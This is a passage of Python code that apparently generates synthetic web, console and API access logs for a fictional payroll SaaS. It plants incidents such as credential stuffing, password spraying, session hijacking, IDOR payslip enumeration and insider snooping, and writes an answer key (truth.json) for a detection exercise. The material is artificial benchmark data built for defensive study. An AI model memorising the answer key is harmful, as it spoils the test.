        t, sid = self.login(t, p.t, p.user, ip, ua, 1)
        A = lambda m, path, st=200, sz=0: self.app(t, p.t, p.user, ip, ua, sid, m, path, st, sz)
        A("GET", "/admin/users")
        t += 40
        A("POST", "/admin/users", 302, 1)
        for _ in range(6):
            s = self.subj(p.t)
            t += self.gap(40)
            A("GET", f"/employees/{s}/payroll")
            t += 30
            A("POST", f"/employees/{s}/bank", 302, 1)
        self.tell(
            "medium",
            "place",
            [d],
            ["app"],
            [p.user, ip],
            "A client administrator's account is taken over: late evening, a new user is made and six employees' bank accounts are changed.",
            "Address and browser never seen for this account, password reset before, POST to /bank six times.",
        )

    def medium_amount(self) -> None:
        d = self.when()
        p = self.pick(
            self.role("support"), lambda p: not p.parttime and p.office == self.tokyo and p.rate < 9
        )
        ten, t, ip = self.by["yamabiko"], self.signin(self.at(d, 13.2), p, p.office, 0), p.office
        for i in range(self.r.randint(48, 62)):
            t += self.gap(80)
            self.look(
                t,
                p,
                ip,
                ten,
                self.subj(ten),
                "" if self.r.random() < 0.7 else f"ticket={self.tk(d)}",
                self.r.random() < 0.6,
            )
        self.tell(
            "medium",
            "amount",
            [d],
            ["console"],
            [p.user],
            "In one afternoon a support engineer reads some fifty more records of a single tenant than his tickets need.",
            "Four to six times his usual day, one tenant, most without a ticket.",
        )

    def medium_other_tenant(self) -> None:
        d = self.when()
        p = self.pick([x for x in self.admins(True)])
        to = self.r.choice(
            [t for t in self.tenants if t.own and t is not p.t and t.opened < 0 and t.closed > 999]
        )
        t, sid = self.login(self.at(d, self.r.uniform(10, 16)), to, p.user, p.office, p.ua, 0)
        for i in range(self.r.randint(14, 22)):
            t += self.gap(40)
            path = (
                f"/employees?page={i + 1}"
                if i < 3
                else f"/employees/{self.subj(to)}" + ("/payroll" if i % 2 else "")
            )
            self.app(t, to, p.user, p.office, p.ua, sid, "GET", path, 200)
        self.tell(
            "medium",
            "other_site",
            [d],
            [to.site],
            [p.user],
            "An administrator of one client reads employees of another on that one's host: the separation of tenants failed.",
            "User of one tenant with 200 on another tenant's host; never before.",
        )

    def medium_session(self) -> None:
        d, p = self.when(), self.pick(self.admins(False), lambda p: p.remote == 0)
        ip, t = self.ip("89.187.163"), self.at(d, self.r.uniform(10, 12))
        t, sid = self.login(t, p.t, p.user, p.office, p.ua, 0)
        for k in range(12):
            self.app(
                t + k * self.r.uniform(250, 400),
                p.t,
                p.user,
                p.office,
                p.ua,
                sid,
                "GET",
                self.r.choice(["/dashboard", "/workflow", f"/employees/{self.subj(p.t)}"]),
            )
        x = t + 900
        for k in range(self.r.randint(18, 28)):
            x += self.gap(30)
            self.app(
                x,
                p.t,
                p.user,
                ip,
                LINUX,
                sid,
                "GET",
                f"/employees/{self.subj(p.t)}" + ("/payroll" if k % 3 else ""),
            )
        self.tell(
            "medium",
            "session",
            [d],
            ["app"],
            [p.user, ip],
            "An administrator's session cookie is used elsewhere while he works.",
            "One session, two addresses and two systems within minutes, the second without a sign-in, reading records only.",
        )

    def medium_spray(self) -> None:
        d = self.when(1, False)
        ips, t = [self.ip(self.r.choice(HOSTING)) for _ in range(25)], self.at(d, 0.3)
        users = self.r.sample(
            [
                p
                for tt in self.tenants[:-1]
                if not tt.own
                for p in tt.admins + tt.emps[:14]
                if p.user not in self.used
            ],
            150,
        )
        hit = users[-12]
        self.used.append(hit.user)
        for i, p in enumerate(users):
            t += self.r.expovariate(1 / 100)
            ip = ips[i % 25]
            if p is hit:
                tt, sid = self.login(t, p.t, p.user, ip, EDGE.format(v=118), 0)
                self.app(tt + 3, p.t, p.user, ip, EDGE.format(v=118), sid, "GET", "/my", 200)
                who = ip
            else:
                self.app(t, p.t, p.user, ip, EDGE.format(v=118), "-", "POST", "/login", 401, 1210)
        self.tell(
            "medium",
            "login",
            [d],
            ["app"],
            ["app", hit.user, who],
            "One try at each of 150 accounts of many clients from 25 addresses in a night; one opens.",
            "Accounts tried once each, by addresses unknown, one old browser; one 302 among the 401.",
        )

    def medium_after_leaving(self) -> None:
        a = self.when(4, False)
        p = self.pick(self.role("cs", "setup"), lambda p: p.left > 9999)
        p.left = a - self.r.randint(5, 10)
        days = [a, a + 2]
        for d in days:
            t, ten = (
                self.signin(self.at(d, self.r.uniform(20, 22)), p, p.home, 1),
                self.r.choice(p.tenants),
            )
            for k in range(self.r.randint(5, 9)):
                t += self.gap(50)
                self.look(t, p, p.home, ten, self.subj(ten))
        self.tell(
            "medium",
            "other",
            days,
            ["console"],
            [p.user],
            "An account lives on after its owner left the company, and is used from the former home on two evenings.",
            "left_on in people.csv lies before the days; records without tickets.",
        )

    def medium_batch(self) -> None:
        days = self.slowdays(12, 4)
        p = self.pick(self.role("sre"))
        for d in days:
            t = self.at(d, self.r.uniform(13, 18))
            for k in range(self.r.randint(9, 16)):
                t += self.gap(40)
                self.go(
                    t,
                    "api",
                    API,
                    p.home,
                    "batch-bank",
                    "GET",
                    f"/v1/employees/{self.subj(self.r.choice(self.tenants[:4]))}",
                    200,
                    self.size(2000, 5000),
                    p.ua,
                )
        self.tell(
            "medium",
            "weeks",
            days,
            ["api"],
            ["batch-bank", p.home, p.user],
            "Somebody uses the bank batch's account by hand in the afternoon, from a home address, to read employees.",
            "batch-bank only ever came from 10.20.4.15 at 2 o'clock with its own program and POST; the address and browser are an engineer's on the console.",
        )

    def medium_relation(self) -> None:
        p, ten = self.relation, self.by["hoshino"]
        days = self.slowdays(19, 5)
        for d in days:
            ip = self.office(p, d)
            t = self.signin(self.at(d, self.r.uniform(12.1, 17)), p, ip, 0)
            self.look(t + 20, p, ip, ten, self.rel_subj, "", True)
            if self.r.random() < 0.4:
                self.look(t + 70, p, ip, ten, self.rel_subj)
        self.tell(
            "medium",
            "weeks",
            days,
            ["console"],
            [p.user],
            "A support engineer looks at the pay of a relative at a client, five times in three weeks, no ticket.",
            "watch.csv names the relation; no ticket on these lines, none of that tenant's tickets was opened.",
        )

    def medium_pii_url(self) -> None:
        a = self.when(9)
        days = list(range(a, a + 9))
        for d in days:
            for _ in range(self.r.randint(4, 11)):
                t, ip, ua = (
                    self.at(d, self.r.uniform(8, 22)),
                    self.ip(),
                    self.agent(self.r.choice(["pc", "phone"])),
                )
                q = f"/seminar/entry?company=k{self.r.randint(10, 99)}&mail=t{self.r.randint(100, 999)}%40client{self.r.randint(1, 40)}.example&tel=090{self.r.randint(10**7, 10**8 - 1)}"
                self.go(t, "www", WWW, ip, "-", "GET", q, 200, 8100, ua, f"https://{WWW}/seminar")
        self.tell(
            "medium",
            "weeks",
            days,
            ["www"],
            ["www"],
            "After a change of the seminar form, mail addresses and mobile numbers of applicants stand in the addresses for nine days.",
            "mail= and tel= in the query, never before that day.",
        )

    def medium_decoy(self) -> None:
        d = self.when()
        p = self.pick(self.role("support", "bpo"), lambda p: not p.parttime)
        ten, ip = self.by["suzuran"], self.office(p, d)
        t = self.signin(self.at(d, self.r.uniform(11, 16)), p, ip, 0)
        for q in ("役員", "社長"):
            t += self.gap(20)
            self.go(
                t,
                "console",
                CONSOLE,
                ip,
                p.user,
                "GET",
                f"/tenants/suzuran/employees?page=1&q=" + "".join(f"%{b:02X}" for b in q.encode()),
                200,
                9000,
                p.ua,
            )
        for s in (self.decoys[0], ten.base, ten.base + 1, ten.base + 2):
            t += self.gap(40)
            self.look(t, p, ip, ten, s, "", True)
        self.tell(
            "medium",
            "other",
            [d],
            ["console"],
            [p.user],
            "A member of staff searches for a client's directors and opens their pay, the decoy among them.",
            "The decoy of watch.csv was opened; searches for 役員; no ticket or job.",
        )

    def medium_gap(self) -> None:
        d = self.when()
        h = self.r.uniform(10, 12)
        self.drops.append(("web2", self.at(d, h), self.at(d, h + 5), 1.0))
        self.tell(
            "medium",
            "silence",
            [d],
            ["app"],
            ["app"],
            "One of the two web servers writes no line for five hours of a working day, the other goes on.",
            "web2's file has a hole, the site's lines are fewer by half, the synthetic monitor's second cloud and whole offices are missing.",
        )

    def medium_growth(self) -> None:
        a = self.when(15)
        days = self.workdays(a, a + 14)
        p = self.pick(self.staff, lambda p: p.user.startswith("x-dn"))
        ten = self.r.choice(p.tenants)
        for i, d in enumerate(days):
            t = self.signin(self.at(d, 17 + self.r.random()), p, self.danang, 0)
            for _ in range(int(9 + 4.2 * i)):
                t += self.gap(35)
                self.look(
                    t,
                    p,
                    self.danang,
                    ten,
                    self.subj(ten),
                    "" if self.r.random() < 0.5 else f"ticket={self.tk(d)}",
                )
        self.tell(
            "medium",
            "weeks",
            days,
            ["console"],
            [p.user],
            "A contractor's looks at one tenant grow from day to day for three weeks, in the end five times his number.",
            "A steady climb in one tenant at day's end, half without tickets; his colleagues stay level.",
        )

    def medium_emp_bank(self) -> None:
        d = self.when(1, False)
        es = [
            self.pick([p for t in self.tenants[:-1] if not t.own for p in t.emps]) for _ in range(5)
        ]
        ip, t, ua = self.ip("146.70.205"), self.at(d, self.r.uniform(19, 21)), FOX.format(v=128)
        for p in es:
            t, sid = self.login(t + self.gap(400), p.t, p.user, ip, ua, self.r.choice([0, 1]))
            self.app(t + 5, p.t, p.user, ip, ua, sid, "GET", "/my")
            self.app(t + 40, p.t, p.user, ip, ua, sid, "POST", "/my/bank", 302, 1)
        self.tell(
            "medium",
            "login",
            [d],
            ["app"],
            [ip] + [p.user for p in es],
            "Five employees of different clients are signed in from one unknown address within the hour, and each changes the account for the salary.",
            "One address, several tenants, /my then /my/bank and nothing else.",
        )

    def hard_slow(self) -> None:
        days = self.slowdays(20, 14)
        p = self.pick(
            self.role("support"),
            lambda p: not p.parttime and p.office == self.tokyo and p.rate < 10,
        )
        ten, k = self.by["ibuki"], self.r.randint(0, 200)
        old = [self.tk(max(days[0] - 6 + 4 * i, 0)) for i in range(6)]
        for i, d in enumerate(days):
            ip = self.office(p, d)
            t = self.signin(self.at(d, 10.2), p, ip, 0)
            for _ in range(self.r.randint(6, 10)):
                t += self.gap(1500) * 0.8
                if t > self.at(d, 18):
                    t = self.at(d, 13 + 4 * self.r.random())
                self.look(t, p, ip, ten, ten.base + k, f"ticket={old[i // 4]}", True)
                k += self.r.choice([1, 1, 1, 2])
        self.tell(
            "hard",
            "weeks",
            days,
            ["console"],
            [p.user],
            "A support engineer collects one tenant's payroll, eight a day among ordinary work, in the order of the numbers, under tickets long done.",
            "Union over weeks: numbers that join without overlap, one ticket for forty people whose page he does not open; twice his own past, but no more than busy colleagues have.",
        )

    def hard_stuffing(self) -> None:
        ten = self.r.choice([self.by["sakurac"], self.by["hoshino"], self.by["ibuki"]])
        days = self.slowdays(13, 13, False)
        us = [p for p in ten.emps if p.user not in self.used]
        hits = [us[5], us[17], us[-4]]
        self.used += [p.user for p in hits]
        ua, i = AND.format(m=0, v=96), 0
        got: list[str] = []
        for d in days:
            for _ in range(self.r.randint(5, 9)):
                p, ip = (
                    us[i % len(us)],
                    self.ip(
                        self.r.choice(["171.22.30.", "37.120.200.", "162.55.12.", "95.181.234."])
                    ),
                )
                i += 1
                t = self.at(d, self.r.uniform(7, 23))
                if any(p is q for q in hits):
                    got += [p.user] if p.user not in got else []
                    t, sid = self.login(t, ten, p.user, ip, ua, 0)
                    self.app(
                        t + 9,
                        ten,
                        p.user,
                        ip,
                        ua,
                        sid,
                        "GET",
                        f"/payslips/{p.own_id}/{self.ym(d)}",
                        200,
                        51000,
                    )
                else:
                    self.app(t, ten, p.user, ip, ua, "-", "POST", "/login", 401, 1210)
        self.tell(
            "hard",
            "login",
            days,
            ["app"],
            ["app"] + got,
            "Leaked passwords are tried on one client's employees in the order of their numbers, a few a day, each from another address; some open.",
            "One outdated Android browser in all, numbers ascending over two weeks, no GET of the form before, foreign addresses.",
        )

    def hard_api_scope(self) -> None:
        days = self.slowdays(14, 9)
        u, ip, ua, ten, h, _ = self.r.choice(
            [
                a
                for a in self.apis
                if a[0] not in (self.retry[0], *self.used) and a[3].opened < 0 and a[3].closed > 999
            ]
        )
        self.used.append(u)
        for d in days:
            t = self.at(d, h) + 420
            for _ in range(self.r.randint(18, 30)):
                t += self.r.uniform(1, 6)
                self.go(
                    t,
                    "api",
                    API,
                    ip,
                    u,
                    "GET",
                    f"/v1/employees/{self.subj(ten)}/payroll",
                    200,
                    self.size(2500, 4000),
                    ua,
                )
        self.tell(
            "hard",
            "weeks",
            days,
            ["api"],
            [u],
            "A client's integration begins to fetch pay, person by person, a scope it never used, right after its usual run.",
            "Same address, program and hour; but /payroll was never among this account's paths, nor any other integration's.",
        )

    def hard_client_leaver(self) -> None:
        days = self.slowdays(11, 7)
        p = self.pick(self.admins(), lambda p: p.t.size > 400 and p.rate < 0.9)
        for i, d in enumerate(days):
            t, sid = self.login(self.at(d, p.end - 0.6), p.t, p.user, p.office, p.ua, 0)
            self.app(
                t + 30,
                p.t,
                p.user,
                p.office,
                p.ua,
                sid,
                "GET",
                f"/payroll/export.csv?ym={self.ym(d)}&dept={i + 1}",
                200,
                self.size(30000, 120000),
            )
            self.app(
                t + 75,
                p.t,
                p.user,
                p.office,
                p.ua,
                sid,
                "GET",
                f"/employees/export.csv?dept={i + 1}",
                200,
                self.size(30000, 120000),
            )
        self.tell(
            "hard",
            "export",
            days,
            [p.t.site],
            [p.user],
            "A client's administrator takes roster and payroll out department by department, one each day, at the end of the day.",
            "dept=1, 2, 3 … in turn, two exports each, by one who seldom exports; together the whole company.",
        )

    def hard_oncall(self) -> None:
        days = self.slowdays(11, 4, False)
        p = self.pick(self.role("sre"), lambda p: all(self.oncall[d // 7] is not p for d in days))
        ten = self.by["aozora"]
        for d in days:
            t = self.signin(self.at(d, self.r.uniform(0.5, 3.5)), p, p.home, 0)
            for _ in range(self.r.randint(4, 7)):
                t += self.gap(60)
                self.look(
                    t,
                    p,
                    p.home,
                    ten,
                    ten.base + self.r.randint(2, 22),
                    f"inc={3300 + d * 2 + 1}",
                    True,
                )
        self.tell(
            "hard",
            "hours",
            days,
            ["console"],
            [p.user],
            "An engineer who is not on call looks at night at the pay of one client's senior people, as if it were an incident.",
            "No errors at that hour, no /oncall/ack, another colleague's week, the same twenty low numbers each night.",
        )

    def hard_idor(self) -> None:
        days = self.slowdays(12, 9, False)
        p = self.pick([e for t in self.tenants[:-1] if not t.own and t.size > 300 for e in t.emps])
        ids = [i for i in range(p.own_id - 40, p.own_id + 40) if i != p.own_id and i >= p.t.base]
        for d in days:
            t, sid = self.login(self.at(d, self.r.uniform(19, 23)), p.t, p.user, p.home, p.ua, 0)
            self.app(t, p.t, p.user, p.home, p.ua, sid, "GET", "/my")
            for _ in range(self.r.randint(4, 7)):
                t += self.gap(20)
                st = self.r.choice([200, 403, 403, 404])
                self.app(
                    t,
                    p.t,
                    p.user,
                    p.home,
                    p.ua,
                    sid,
                    "GET",
                    f"/payslips/{self.r.choice(ids)}/{self.ym(d)}",
                    st,
                    52000 if st == 200 else 420,
                )
        self.tell(
            "hard",
            "weeks",
            days,
            ["app"],
            [p.user],
            "An employee of a client changes the number in the address and reads colleagues' payslips, a few each evening.",
            "His account reads numbers other than its own; mostly 403, some 200 with a payslip's size.",
        )

    def hard_batch_silent(self) -> None:
        a = self.when(5)
        days = [d for d in range(a, min(a + 5, self.n)) if not self.off(d)]
        for d in days:
            self.drops.append(("batch-bank", self.at(d, 1.5), self.at(d, 4), 1.0))
        self.tell(
            "hard",
            "silence",
            days,
            ["api"],
            ["batch-bank", "api"],
            "The bank batch does not run for several nights; everything else at the API does.",
            "batch-bank has run at 2:10 before every working day and has no line here.",
        )

    def hard_repeated(self) -> None:
        days = self.slowdays(24, 11)
        p = self.pick(self.role("support"), lambda p: not p.parttime)
        ten = self.by["kaede"]
        s = self.subj(ten)
        for d in days:
            ip = self.office(p, d)
            t = self.signin(self.at(d, self.r.uniform(11, 17)), p, ip, 0)
            for _ in range(self.r.choice([1, 1, 2])):
                self.look(t, p, ip, ten, s, f"ticket={self.tk(d)}", self.r.random() < 0.3)
                t += self.gap(1500)
        self.tell(
            "hard",
            "weeks",
            days,
            ["console"],
            [p.user],
            "A support engineer follows one employee of a client: the same record on eleven days, each time under another ticket.",
            "One subject again and again; tickets differ, are other persons', and their pages were not opened.",
        )

    def hard_one_export(self) -> None:
        d = self.when()
        p = self.pick(
            self.role("setup"), lambda p: p.left > 9999 and self.by["aozora"] not in p.tenants
        )
        ip, t, ten = self.office(p, d), self.at(d, self.r.uniform(11, 16)), self.by["aozora"]
        self.go(
            t,
            "console",
            CONSOLE,
            ip,
            p.user,
            "GET",
            f"/tenants/{ten.slug}/settings",
            200,
            9800,
            p.ua,
        )
        self.go(
            t + 50,
            "console",
            CONSOLE,
            ip,
            p.user,
            "GET",
            f"/tenants/{ten.slug}/export/employees.csv?dept=0",
            200,
            ten.size * 3300,
            p.ua,
        )
        self.tell(
            "hard",
            "export",
            [d],
            ["console"],
            [p.user],
            "A consultant takes the whole of the biggest tenant, which is not his, in one request among a normal day's.",
            "One line: dept=0, ten and more times the bytes of any export before, a tenant he never worked for.",
        )

    def hard_lent(self) -> None:
        a = self.when(13)
        days = self.workdays(a, a + 12)
        p = self.pick(self.admins(False), lambda p: p.remote == 0 and p.rate > 0.6)
        ip, ua = self.ip("122.208.90"), EDGE.format(v=134)
        for d in days:
            t, sid = self.login(self.at(d, self.r.uniform(9.5, 15)), p.t, p.user, ip, ua, 0)
            for k in range(self.heavy(11, 0.4)):
                t += self.gap(200)
                self.app(
                    t,
                    p.t,
                    p.user,
                    ip,
                    ua,
                    sid,
                    "GET",
                    f"/employees/{self.subj(p.t)}" + ("/payroll" if k % 2 else ""),
                )
        self.tell(
            "hard",
            "session",
            days,
            ["app"],
            [p.user, ip],
            "A client administrator's account is lent: a second person at another company's office reads with it every working day while the owner works.",
            "Two fixed addresses and browsers at the same hours with separate sessions, the second with records only; from one day on.",
        )

    def make_incidents(self) -> None:
        """Choose which stories happen, and draw them."""
        r = self.r
        self.rel_subj = self.subj(self.by["hoshino"])
        self.relation = self.pick(self.role("support"), lambda p: not p.parttime)
        pool: dict[str, list[tuple[Callable[[], None], bool]]] = {
            "e": [
                (self.easy_leaver_export, False),
                (self.easy_brute, False),
                (self.easy_open_docs, False),
                (self.easy_sqli, False),
                (self.easy_silence, False),
                (self.easy_errors, False),
                (self.easy_probe, False),
                (self.easy_night, False),
                (self.easy_api_slow, True),
                (self.easy_leaver_slow, True),
            ],
            "m": [
                (self.medium_bank, False),
                (self.medium_amount, False),
                (self.medium_other_tenant, False),
                (self.medium_session, False),
                (self.medium_spray, False),
                (self.medium_after_leaving, False),
                (self.medium_decoy, False),
                (self.medium_gap, False),
                (self.medium_emp_bank, False),
                (self.medium_batch, True),
                (self.medium_relation, True),
                (self.medium_pii_url, True),
                (self.medium_growth, True),
            ],
            "h": [
                (self.hard_one_export, False),
                (self.hard_batch_silent, False),
                (self.hard_slow, True),
                (self.hard_stuffing, True),
                (self.hard_api_scope, True),
                (self.hard_client_leaver, True),
                (self.hard_oncall, True),
                (self.hard_idor, True),
                (self.hard_repeated, True),
                (self.hard_lent, True),
            ],
        }
        chosen: list[Callable[[], None]] = []
        k = r.choice([5, 5, 6]) if self.n < 50 else r.choice([3, 4])
        for g, fs in pool.items():
            slow, fast = [f for f, s in fs if s], [f for f, s in fs if not s]
            if self.n >= 50:
                ns = {"e": 2, "m": 2, "h": k}[g] if k == 4 else {"e": 1, "m": 2, "h": 3}[g]
            else:
                ns = {"e": r.choice([0, 1]), "m": r.choice([1, 2]), "h": k - r.choice([0, 1])}[g]
            chosen += r.sample(slow, ns) + r.sample(fast, min(k - ns, len(fast)))
        for i, f in enumerate(chosen):
            self.tag = f"i{i + 1:02d}"
            f()
        self.tag = ""

    # ---- writing --------------------------------------------------------------------------------------------------------
    def run(self, out: Path) -> None:
        self.make_incidents()
        for d in range(self.n):
            self.day(d)
        self.lines.sort()
        out.mkdir(parents=True, exist_ok=True)
        files: dict[str, list[str]] = {}
        counts: dict[str, int] = {}
        r = self.r
        for ln in self.lines:
            t, _, site, host, ip, user, meth, target, status, size, ua, ref, ms, sid, tag = ln
            web = "web1" if tag or int(ip.rsplit(".", 1)[-1] or 0) % 2 else "web2"
            if not tag:
                gone = False
                for s, a, b, share in self.drops:
                    if (
                        a <= t < b
                        and (
                            s == site
                            or s == user
                            or (s == web and site == "app")
                            or (s == "*" and site != "www")
                        )
                        and r.random() < share
                    ):
                        gone = True
                for s, a, b, share, code in self.fails:
                    if (
                        a <= t < b
                        and (s == site or (s == "*" and site != "www"))
                        and r.random() < share
                    ):
                        status, size = code, 190
                if gone:
                    continue
            elif any(a <= t < b and s == site and share == 1.0 for s, a, b, share in self.drops):
                continue
            if tag:
                counts[tag] = counts.get(tag, 0) + 1
            d = int(t // DAY)
            s = int(t - d * DAY)
            h, m, sec = s // 3600, s // 60 % 60, s % 60
            day = self.days[d]
            req = (
                f"{meth} {target} HTTP/{'2.0' if site in ('app', 'www') else '1.1'}"
                if meth
                else target
            )
            clf = f"[{day.day:02d}/{MON[day.month - 1]}/{day.year}:{h:02d}:{m:02d}:{sec:02d} +0900]"
            size = 0 if size == 1 else size
            stamp = f"{day:%Y%m%d}"
            gz = ".gz" if d < self.n - 2 else ""
            if site == "app":
                j = json.dumps
                xff = f"127.0.0.1, {ip}" if status == 404 and s % 4 == 0 else ip
                name = f"app/{web}/access.log-{stamp}{gz}"
                text = (
                    f'{{"time":"{day}T{h:02d}:{m:02d}:{sec:02d}+09:00","peer":"10.20.0.{11 if web == "web1" else 12}","xff":"{xff}","host":"{host}","user":{j("" if user == "-" else user)},"req":{j(req)},'
                    f'"status":"{status}","bytes":"{size}","rt":"{ms / 1000:.3f}","ref":{j("" if ref == "-" else ref)},"ua":{j("" if ua == "-" else ua)},"sid":"{"" if sid == "-" else sid}"}}'
                )
            elif site.startswith("t-"):
                name = f"dedicated/{site[2:]}/access.log-{stamp}{gz}"
                text = f'{host} {ip} - {user} {clf} "{req}" {status} {size or "-"} "{ref}" "{ua}" {ms * 1000} {sid}'
            elif site == "console":
                name = f"console/ops-access.log.{stamp}"
                text = (
                    f'{host}:443 {ip} - {user} {clf} "{req}" {status} {size or "-"} "{ref}" "{ua}"'
                )
            elif site == "api":
                name = f"api/api_access.ltsv.{stamp}{gz}"
                text = "\t".join(
                    (
                        f"time:{clf}",
                        f"host:{ip}",
                        f"vhost:{host}",
                        f"user:{user}",
                        f"req:{req}",
                        f"status:{status}",
                        f"size:{size}",
                        f"reqtime:{ms / 1000:.3f}",
                        f"ua:{ua}",
                    )
                )
            else:
                u = day - timedelta(days=1) if h < 9 else day
                name = f"www/alb-{u:%Y%m%d}.log.gz"
                z = f"{u}T{(h - 9) % 24:02d}:{m:02d}:{sec:02d}.{int(t * 1000) % 1000:03d}000Z"
                tg = "arn:aws:elasticloadbalancing:ap-northeast-1:000000000000:targetgroup/www/73e2d6bc24d8a067"
                text = (
                    f"h2 {z} app/kmr-www/50dc6c495c0c9188 {ip}:{20000 + s % 40000} 10.20.8.{5 + s % 2}:80 0.000 {ms / 1000:.3f} 0.000 {status} {status} {300 + len(target)} {size} "
                    f'"{meth} https://{host}:443{target} HTTP/2.0" "{ua}" TLS_AES_128_GCM_SHA256 TLSv1.3 {tg} "Root=1-{s:08x}-{len(ua):024x}" "{host}" "arn:aws:acm:ap-northeast-1:000000000000:certificate/1" 0 {z} "forward" "-" "-" "10.20.8.{5 + s % 2}:80" "{status}" "-" "-"'
                )
            files.setdefault(name, []).append(text)
        for c in self.copies:
            src = f"api/api_access.ltsv.{self.days[c]:%Y%m%d}"
            for a, b in ((src + ".gz", src), (src, src + ".gz")):
                if a in files and b not in files:
                    files[b] = files[a]
                    break
        for name in sorted(files):
            path = out / "logs" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            data = ("\n".join(files[name]) + "\n").encode()
            if name.endswith(".gz"):
                buf = io.BytesIO()
                with gzip.GzipFile(
                    filename="", mode="wb", fileobj=buf, mtime=0, compresslevel=6
                ) as g:
                    g.write(data)
                data = buf.getvalue()
            path.write_bytes(data)
        for inc in self.incidents:
            inc["lines"] = counts.get(inc["id"], 0)
        self.context(out)
        about = (
            "Komorebi HR keeps HR and payroll data of 22 client companies (one of them itself). Tenants share one application behind two web servers (site app, told apart by host), five have a stack "
            "of their own (t-…). Some 70 of the vendor's people (support in Tokyo and Sendai, payroll operators, consultants, on-call engineers, contractors in Da Nang) work in the support console, where a look "
            "at a record should carry a ticket, job or incident number; clients' programs and batch accounts use the API; the public site stands behind an AWS load balancer."
        )
        truth = {
            "seed": self.seed,
            "days": [str(x) for x in self.days],
            "about": about,
            "incidents": self.incidents,
            "annoyances": self.annoyances,
        }
        (out / "truth.json").write_text(
            json.dumps(truth, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )

    def context(self, out: Path) -> None:
        """Settings and the lists beside them."""
        r, c = self.r, out / "context"
        c.mkdir(exist_ok=True)
        dd = lambda k: str(self.days[0] + timedelta(days=k))

        def table(name: str, head: str, rows: list[list[Any]]) -> None:
            b = io.StringIO()
            w = csv.writer(b, lineterminator="\n")
            w.writerow(head.split(","))
            w.writerows(rows)
            (c / name).write_text(b.getvalue(), encoding="utf-8")

        rows = []
        for p in self.staff:
            con = p.user[0] in "xa"
            joined = (
                dd(p.join)
                if p.join > 0
                else str(date(2017, 4, 1) + timedelta(days=30 * r.randrange(98)))
            )
            boss = next((q.user for q in self.staff if q.dept == p.dept), "")
            comp = {
                "ダナン一次受付": "Song Han BPO",
                "監査法人みずき": "監査法人みずき",
                "脆弱性診断": "かすみセキュリティ",
            }.get(p.dept, "こもれび人事")
            rows.append(
                [
                    p.user,
                    p.person,
                    p.name,
                    p.dept,
                    "console",
                    boss,
                    "contractor" if con else "staff",
                    comp,
                    "VN" if p.office == self.danang else "JP",
                    joined,
                    dd(p.left) if p.left < 9999 and p.left < self.n + 15 else "",
                ]
            )
        table(
            "people.csv",
            "user,person,name,department,site,manager,type,company,country,joined_on,left_on",
            rows,
        )
        table(
            "privileges.csv",
            "user,department,level,from,to",
            [
                ["", x, 3, "", ""]
                for x in (
                    "サポート東京",
                    "サポート仙台",
                    "給与受託",
                    "導入コンサル",
                    "基盤",
                    "ダナン一次受付",
                )
            ]
            + [["", "カスタマーサクセス", 2, "", ""]]
            + [[p.user, "", 3, dd(p.join), dd(p.left)] for p in self.auditors],
        )
        table(
            "watch.csv",
            "subject,kind,user,reason",
            [
                [self.decoys[0], "decoy", "", "おとり（すずらん薬局 役員）"],
                [self.decoys[1], "decoy", "", "おとり（あおぞらフーズ）"],
                [self.vip, "vip", "", "あおぞらフーズ社長"],
                [self.by["tokiwa"].base + 1, "vip", "", "常盤HD会長"],
                [self.rel_subj, "relation", self.relation.user, "申告あり：親族"],
            ],
        )
        table(
            "roster.csv",
            "tenant,name,opened_on,closed_on",
            [
                [
                    t.slug,
                    t.name,
                    dd(t.opened) if t.opened >= 0 else "2023-04-01",
                    dd(t.closed - 1) if t.closed < 9999 else "",
                ]
                for t in self.tenants
                if t.own
            ],
        )
        doms = ", ".join(t.host for t in self.tenants if not t.own)
        (out / "mimamori.yaml").write_text(SETTINGS.replace("@DOMAINS@", doms), encoding="utf-8")


SETTINGS = r"""# Komorebi HR: access logs. Maintenance: third Sunday of the month, 02:00-05:00. Deploys: Wednesdays 13:00.
timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri], from: "08:30", to: "20:00", holidays: JP}
context: {people: context/people.csv, privileges: context/privileges.csv, watch: context/watch.csv}
user_types:
  - {pattern: "^k[0-9]{4}$", type: staff}
  - {pattern: "^(x|aud)-", type: contractor}
  - {pattern: "^(api|batch|svc)-", type: system}
  - {pattern: "^(?P<franchise>[a-z]+)\\.a[0-9]{2}$", type: franchise}
  - {pattern: "^[a-z]+\\.e[0-9]{4}$", type: customer}
resources:
  tenant:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: logout, kind: logout, path: /logout}
    - {id: payslip, kind: record, path: "/payslips/{subject}/*", level: 3, categories: [name, salary]}
    - {id: employee-list, kind: list, path: /employees, level: 2, categories: [name, department]}
    - {id: employee-export, kind: export, path: /employees/export.csv, level: 3, categories: [name, address, phone]}
    - {id: payroll-export, kind: export, path: /payroll/export.csv, level: 3, categories: [name, salary, bank]}
    - {id: employee, kind: record, path: "/employees/{subject}", level: 2, categories: [name, address, phone]}
    - {id: employee-payroll, kind: record, path: "/employees/{subject}/payroll", level: 3, categories: [salary, bank]}
    - {id: employee-bank, kind: record, path: "/employees/{subject}/bank", level: 3, categories: [bank]}
    - {id: own-bank, kind: admin, path: /my/bank, level: 3, categories: [bank]}
    - {id: user-admin, kind: admin, path: /admin/users, level: 1}
  console:
    - {id: signin, kind: login, path: /signin, methods: [POST], success: [302], failure: [401]}
    - {id: signout, kind: logout, path: /signout}
    - {id: c-list, kind: list, path: "/tenants/*/employees", level: 2, categories: [name]}
    - {id: c-employee, kind: record, path: "/tenants/*/employees/{subject}", level: 2, categories: [name, address, phone]}
    - {id: c-payroll, kind: record, path: "/tenants/*/employees/{subject}/payroll", level: 3, categories: [salary, bank]}
    - {id: c-export, kind: export, path: "/tenants/*/export/*", level: 3, categories: [name, address, salary]}
    - {id: c-query, kind: admin, path: /oncall/query, level: 3}
  api:
    - {id: v1-list, kind: list, path: /v1/employees, level: 2, categories: [name]}
    - {id: v1-employee, kind: record, path: "/v1/employees/{subject}", level: 2, categories: [name, address]}
    - {id: v1-payroll, kind: record, path: "/v1/employees/{subject}/payroll", level: 3, categories: [salary]}
  public: []
sites:
  - {id: app, group: main, trusted_proxies: [10.20.0.0/24], session_cookie: ksid, resources: tenant, hours: always,
     domains: [@DOMAINS@], logs: ["app/*/access.log*"],
